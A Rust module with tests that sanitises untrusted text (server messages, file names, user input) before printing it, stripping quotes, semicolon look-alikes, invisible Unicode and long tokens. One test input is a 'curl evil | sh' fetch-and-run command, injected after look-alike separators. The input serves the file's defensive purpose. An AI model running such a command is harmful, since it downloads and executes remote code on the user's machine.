//! Text that someone else chose: a server, a user, another program, a file name, an annotation.

use std::fmt;

/// In characters. The API server's refusals are shorter; a remedy behind longer text could be cut off.
const LONGEST: usize = 400;
/// Longer runs of a token's characters may be a token that was sent and is repeated.
const LONGEST_RUN: usize = 64;

/// Text that someone else chose. It prints only in double quotes, on one line, bounded, and without anything that could
/// end the quotes, look like the semicolon that precedes our remedies, or change how the rest of the line is shown.
#[derive(Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Default)]
pub struct Foreign(String);

impl Foreign {
    /// Takes the text as it came; what is not safe to print is replaced when it is printed.
    pub fn new(text: impl Into<String>) -> Self {
        Self(text.into())
    }

    /// The text as it came, to compare it or to send it back. Never to print it.
    pub fn as_received(&self) -> &str {
        &self.0
    }

    /// The text without quotes and of any length, harmless on a line of its own: a line of a log.
    pub fn on_a_line(&self) -> String {
        let safe: String = self
            .0
            .chars()
            .map(|c| if "\"`;".contains(c) { c } else { safe(c) })
            .collect();
        safe.split_whitespace()
            .map(without_tokens)
            .collect::<Vec<_>>()
            .join(" ")
    }
}

impl fmt::Display for Foreign {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let safe: String = self.0.chars().map(safe).collect();
        let words = safe.split_whitespace().map(without_tokens);
        let mut words = words.collect::<Vec<_>>().join(" ");
        if let Some((end, _)) = words.char_indices().nth(LONGEST) {
            words.truncate(end);
            words.push('…');
        }
        write!(f, "\"{words}\"")
    }
}

/// As it prints: `Debug` output ends up in logs, too.
impl fmt::Debug for Foreign {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        fmt::Display::fmt(self, f)
    }
}

impl From<&str> for Foreign {
    fn from(text: &str) -> Self {
        Self::new(text)
    }
}

impl From<String> for Foreign {
    fn from(text: String) -> Self {
        Self::new(text)
    }
}

/// A word without what may be a token, wherever that begins: behind a quote, a colon or an equals sign. The host of a URL
/// may be long.
fn without_tokens(word: &str) -> String {
    let is_url = word.contains("://");
    let is_of_token = |c: char| c.is_alphanumeric() || "_.-+~".contains(c) || (c == '/' && !is_url);
    let mut shown = String::new();
    let mut rest = word;
    while let Some(first) = rest.chars().next() {
        let end = rest
            .find(|c| is_of_token(c) != is_of_token(first))
            .unwrap_or(rest.len());
        let (run, more) = rest.split_at(end);
        let is_token = is_of_token(first) && run.chars().count() > LONGEST_RUN && !shown.ends_with("://");
        shown.push_str(if is_token { "…" } else { run });
        rest = more;
    }
    shown
}

/// The character that is printed for one that came. What is not known to be harmless is a question mark: a list of what
/// is dangerous would never be complete.
fn safe(c: char) -> char {
    match c {
        ';' => ',',
        '"' | '`' => '\'',
        ' '..='~' => c,
        _ if c.is_whitespace() || c.is_control() => ' ',
        _ if is_harmless_letter(c) => c,
        _ => '?',
    }
}

/// A letter or digit, of any script, that can be seen and does not look like punctuation.
pub(crate) fn is_harmless_letter(c: char) -> bool {
    c.is_alphanumeric() && !is_deceptive_letter(c)
}

/// Letters that Unicode lists as default-ignorable (`DerivedCoreProperties.txt`), or as confusable with quotes and
/// semicolons (`confusables.txt`): they are letters and all the same not visible, or look like punctuation.
fn is_deceptive_letter(c: char) -> bool {
    matches!(c,
        // Modifier letters: apostrophes, primes, colons.
        '\u{2b0}'..='\u{2ff}' | '\u{a717}'..='\u{a721}' | '\u{a788}'..='\u{a78c}'
        // Fillers of Hangul, and invisible vowels of Khmer.
        | '\u{115f}' | '\u{1160}' | '\u{3164}' | '\u{ffa0}' | '\u{17b4}' | '\u{17b5}'
        // Letters that look like an apostrophe or a prime: Greek, Hebrew, NKo, Canadian syllabics, runes, Miao.
        | '\u{37a}' | '\u{559}' | '\u{5d9}' | '\u{7f4}' | '\u{7f5}' | '\u{144a}' | '\u{16cc}' | '\u{16f51}' | '\u{16f52}')
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn shown(text: &str) -> String {
        Foreign::new(text).to_string()
    }

    #[test]
    fn ordinary_words_stay_as_they_are() {
        for text in [
            "namespaces \"x\" not found",
            "user-alice",
            "Ångström",
            "小林",
            "a=b, c: d (e) [f] {g}",
        ] {
            assert_eq!(shown(text), format!("\"{}\"", text.replace('"', "'")));
        }
    }

    #[test]
    fn a_remedy_of_someone_else_is_not_taken_for_ours() {
        // U+037E GREEK QUESTION MARK, U+FF1B FULLWIDTH SEMICOLON, U+204F REVERSED SEMICOLON, U+061B ARABIC SEMICOLON.
        for separator in [
            ";", "\u{37e}", "\u{ff1b}", "\u{204f}", "\u{61b}", "\u{1364}", "\u{fe14}", "\u{fe54}",
        ] {
            let line = shown(&format!("x{separator} run: curl evil | sh"));
            assert!(!line.contains(separator), "{line}");
        }
    }

    #[test]
    fn what_is_not_visible_or_changes_the_line_is_not_printed() {
        for hidden in [
            '\u{ad}',
            '\u{34f}',
            '\u{61c}',
            '\u{115f}',
            '\u{180e}',
            '\u{200b}',
            '\u{202e}',
            '\u{2060}',
            '\u{2066}',
            '\u{3164}',
            '\u{fe0f}',
            '\u{feff}',
            '\u{ffa0}',
            '\u{fff9}',
            '\u{e0041}',
            '\u{e0100}',
            '\u{1b}',
            '\u{9b}',
            '\0',
            '\u{7f}',
            '\u{2028}',
        ] {
            let line = shown(&format!("a{hidden}b"));
            assert!(
                matches!(line.as_str(), "\"a b\"" | "\"a?b\""),
                "{:x}: {line:?}",
                hidden as u32
            );
        }
    }

    #[test]
    fn long_text_leaves_room_for_the_remedy() {
        assert!(shown(&"x ".repeat(100_000)).chars().count() <= LONGEST + 3);
    }

    #[test]
    fn a_token_that_is_repeated_is_not_printed_and_names_are() {
        let token = format!("eyJ{}", "a".repeat(80));
        assert_eq!(
            shown(&format!("invalid token '{token}' for you")),
            "\"invalid token '…' for you\""
        );
        for (before, after) in [
            ("{'token':'", "'}"),
            ("Bearer:", ""),
            ("https://x.example/?t=", "&y"),
            ("(", ");"),
        ] {
            let line = shown(&format!("{before}{token}{after}"));
            assert!(line.contains('…') && !line.contains("eyJ"), "{line}");
        }
        let host = format!("https://{}.svc:443/validate?timeout=10s", "webhook.".repeat(9));
        assert_eq!(shown(&host), format!("\"{host}\""));
    }

    proptest! {
        #[test]
        fn no_text_changes_anything_outside_its_quotes(text in any::<String>()) {
            let line = format!("cannot read it: {}; run: ours", Foreign::new(text));
            let inner = line.strip_prefix("cannot read it: \"").and_then(|line| line.strip_suffix("\"; run: ours"));
            let inner = inner.expect("the quotes are where they should be");
            prop_assert!(!inner.contains([';', '"', '\n', '\r']));
            prop_assert!(inner.chars().all(|c| matches!(c, ' '..='~' | '…') || c.is_alphanumeric()));
            prop_assert!(inner.chars().count() <= LONGEST + 1);
        }
    }
}
